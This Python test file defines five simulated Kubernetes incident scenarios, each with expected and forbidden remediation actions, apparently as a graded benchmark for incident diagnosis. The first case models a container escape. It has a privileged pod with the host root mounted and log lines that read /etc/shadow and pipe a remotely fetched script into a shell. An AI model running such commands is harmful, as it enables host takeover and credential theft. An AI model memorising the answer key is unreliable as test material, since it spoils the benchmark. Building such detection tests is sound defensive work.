"""An intruder, an ebb, and processes that stand still or have lost their place."""

from __future__ import annotations

from tests.diagnosis.casemaker.case import Fault, case
from tests.diagnosis.casemaker.cases.quiet import HARM as QUIET
from tests.diagnosis.casemaker.events import event, probe_failure
from tests.diagnosis.casemaker.logs import L, log, often
from tests.diagnosis.casemaker.network import service
from tests.diagnosis.casemaker.platform import claim, nodes
from tests.diagnosis.casemaker.pods import P
from tests.diagnosis.casemaker.rolled import bare
from tests.diagnosis.casemaker.scene import alert, well
from tests.diagnosis.casemaker.sets import statefulset
from tests.diagnosis.casemaker.signals import flat, ramp, requests, signal, step
from tests.diagnosis.casemaker.templates import container, pod_spec
from tests.diagnosis.casemaker.workloads import Rev, deployment
from tests.diagnosis.casemaker.world import World, days, minutes

HARM = ["rollback_workload", "scale_workload", "no_action", "scale_database", "isolate_workload"]


@case(
    "privileged-pod-out-of-nowhere",
    "charity",
    "2026-04-12T03:18:00",
    title="A privileged pod with the node's root mounted was started by hand in the night; a shell was seen in it",
    drawn_from="container escapes through hostPath and privileged pods, found by Falco: Terminal shell in container",
    why="No controller owns it, its image belongs to nobody here, it may do everything on its node; it "
    "has to be cut off "
    "and kept for those who investigate.",
    expect=[Fault("Pod/alpine-debug", "security_incident", "isolate_workload")],
    acceptable=[("security_incident", "page_human")],
    tolerated=["page_human"],
    forbidden=["restart_workload", "rollback_workload", "scale_workload", "no_action", "scale_database"],
)
def privileged(w: World) -> None:
    nodes(w, "ch-1", "ch-2")
    well(w, "donate", "registry.charity.example/donate:14", talk=True)
    inner = container(
        "sh",
        "docker.io/library/alpine:3.20",
        port=0,
        ready=None,
        command=("nsenter", "--target", "1", "--mount", "--", "bash"),
    )
    inner["securityContext"] = {"privileged": True}
    spec = pod_spec(inner, hostPID=True, hostNetwork=True)
    spec["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]
    made = bare(w, "alpine-debug", spec, P(), age=minutes(41))
    log(w, made, 0, "plain", [L(0, "", "# cat /host/etc/shadow | head -1\n# curl -s http://198.51.100.23/k.sh | sh")])
    alert(
        w,
        "FalcoTerminalShell",
        minutes(39),
        "A shell was spawned in a container with an attached terminal",
        pod="alpine-debug",
    )


@case(
    "evening-ebb",
    "canteen",
    "2026-02-04T15:30:00",
    title="An alert on too few requests fires after lunch, as on every day; nothing fails",
    drawn_from="static thresholds on request rates that fire whenever people go home",
    why="The rate falls slowly over the hour, nobody gets an error, all pods are ready and fast.",
    expect=[Fault("", "no_fault", "no_action")],
    tolerated=["page_human"],
    forbidden=QUIET,
)
def ebb(w: World) -> None:
    nodes(w, "ca-1", "ca-2")
    menu = well(w, "menu", "registry.canteen.example/menu:3", pods=2, age=days(15), talk=True)
    well(w, "till", "registry.canteen.example/till:9", talk=True)
    for index in range(2):
        signal(w, "cpu_share", {"pod": menu.pod(index), "container": "menu"}, ramp(0.4, 0.12))
    requests(w, "menu", rate=ramp(60, 14), errors=flat(0.0004), p95=flat(0.07))
    requests(w, "till", rate=ramp(30, 6), errors=flat(0.0003), p95=flat(0.05))
    alert(w, "RequestRateLow", minutes(9), "menu gets fewer than 20 requests a second", service="menu", severity="info")


@case(
    "threads-locked-each-other",
    "betting-slips",
    "2026-08-21T20:16:00",
    title="All threads of a Java service wait for each other; requests time out and the processor idles",
    drawn_from="Found one Java-level deadlock in thread dumps of services that had run for weeks",
    why="No release, no more traffic, nothing behind complains; the processes stand still and only new ones will move.",
    expect=[Fault("Deployment/slips", "service_crash", "restart_workload")],
    acceptable=[
        ("code_defect", "restart_workload"),
        ("unknown", "restart_workload"),
        ("resource_exhaustion", "restart_workload"),
    ],
    tolerated=["page_human"],
    forbidden=HARM,
)
def locked(w: World) -> None:
    nodes(w, "bs-1", "bs-2")
    slips = well(w, "slips", "registry.slips.example/slips:5.5", pods=2, age=days(30))
    for index in range(2):
        lines = [
            "Found one Java-level deadlock:",
            (
                '"http-nio-8080-exec-7": waiting to lock monitor 0x00007f2c (object 0x0e1, a '
                'com.example.slips.Ledger), which is held by "http-nio-8080-exec-3"'
            ),
        ]
        log(w, slips, index, "logback", often(60, 1500, 5, "warn", lines, "c.s.Watchdog"))
        signal(w, "cpu_share", {"pod": slips.pod(index), "container": "slips"}, step(0.45, 0.01, minutes(25)))
        probe_failure(
            w,
            slips.pods[index],
            "Readiness",
            'Get "http://10.244.1.12:8080/healthz": context deadline exceeded',
            first=minutes(24),
            last=8,
            count=140,
        )
    requests(w, "slips", rate=flat(33), errors=step(0.001, 0.96, minutes(25)), p95=step(0.1, 30, minutes(25)))
    alert(w, "SlipsDown", minutes(20), "96% of requests to slips fail", service="slips")


@case(
    "read-only-since-the-switchover",
    "campsite",
    "2026-05-07T10:44:00",
    title="MySQL was switched over; one service still writes to the server that is read-only now",
    drawn_from="The MySQL server is running with the --super-read-only option, for hours after a switchover",
    why=(
        "The other service writes well; this one holds connections that are older than the switchover; "
        "new ones are right."
    ),
    expect=[Fault("Deployment/pitches", "database_connection", "restart_workload")],
    acceptable=[("database_connection", "restart_connection_pool"), ("dependency_failure", "restart_workload")],
    tolerated=["page_human"],
    forbidden=HARM,
)
def switchover(w: World) -> None:
    nodes(w, "cp-1", "cp-2")
    spec = pod_spec(container("mysql", "percona/percona-server:8.0.39", port=3306, ready={"tcpSocket": {"port": 3306}}))
    base = statefulset(w, "mysql", spec, 2, claim="data")
    for index in range(2):
        claim(w, f"data-mysql-{index}")
    service(w, "mysql", port=3306, target=3306)
    log(
        w,
        base,
        1,
        "mysql",
        [
            L(
                minutes(27),
                "system",
                "Plugin group_replication reported: 'A new primary with address mysql-1:3306 was elected.'",
            )
        ],
    )
    pitches = well(w, "pitches", "registry.campsite.example/pitches:18", pods=2, age=days(19), env={"DB": "mysql:3306"})
    well(w, "guests", "registry.campsite.example/guests:4", talk=True, env={"DB": "mysql:3306"})
    for index in range(2):
        text = (
            "PDOException: SQLSTATE[HY000]: General error: 1290 The MySQL server is running with the "
            "--super-read-only option so it cannot execute this statement"
        )
        log(w, pitches, index, "python", often(7, 1580, 1, "error", [text], "pitches.save"))
    requests(w, "pitches", rate=flat(11), errors=step(0.001, 0.38, minutes(26)))


@case(
    "preempted-by-a-batch",
    "geology",
    "2026-10-20T05:55:00",
    title="A batch of higher priority took the room of a service: two of its pods were preempted and wait for a node",
    drawn_from="PriorityClasses given to batch workloads: Preempted by pod, then Insufficient cpu",
    why="Templates are unchanged; the scheduler says who took the place; there is no room until the "
    "batch ends or a person "
    "decides.",
    expect=[Fault("Deployment/maps", "capacity", "page_human")],
    acceptable=[
        ("resource_exhaustion", "page_human"),
        ("configuration_error", "page_human"),
        ("capacity", "page_human", "*"),
    ],
    forbidden=[*HARM, "restart_workload"],
)
def preempted(w: World) -> None:
    nodes(w, "ge-1", "ge-2")
    spec = pod_spec(container("maps", "registry.geology.example/maps:8", cpu=("1", "2")))
    text = (
        "0/2 nodes are available: 2 Insufficient cpu. preemption: 0/2 nodes are available: 2 No "
        "preemption victims found for incoming pod."
    )
    away = P(age=minutes(18), unschedulable=text)
    top = deployment(w, "maps", [Rev(spec, days(44))], [P(), away, away])
    batch = pod_spec(
        container("inversion", "registry.geology.example/inversion:3", port=0, ready=None, cpu=("3", "3")),
        priorityClassName="batch-high",
    )
    deployment(w, "inversion", [Rev(batch, minutes(19))], 2, age=minutes(19), number=1)
    for index in (1, 2):
        event(w, top.pods[index], "FailedScheduling", text, first=minutes(18), last=90, count=4)
    event(
        w,
        top.sets[0],
        "Preempted",
        "Preempted by pod 5b1f0a34 on node ge-1",
        kind="Normal",
        last=minutes(18),
        writer="default-scheduler",
    )
    service(w, "maps")
    alert(w, "KubeDeploymentReplicasMismatch", minutes(3), "maps has 1 of 3 replicas", deployment="maps")
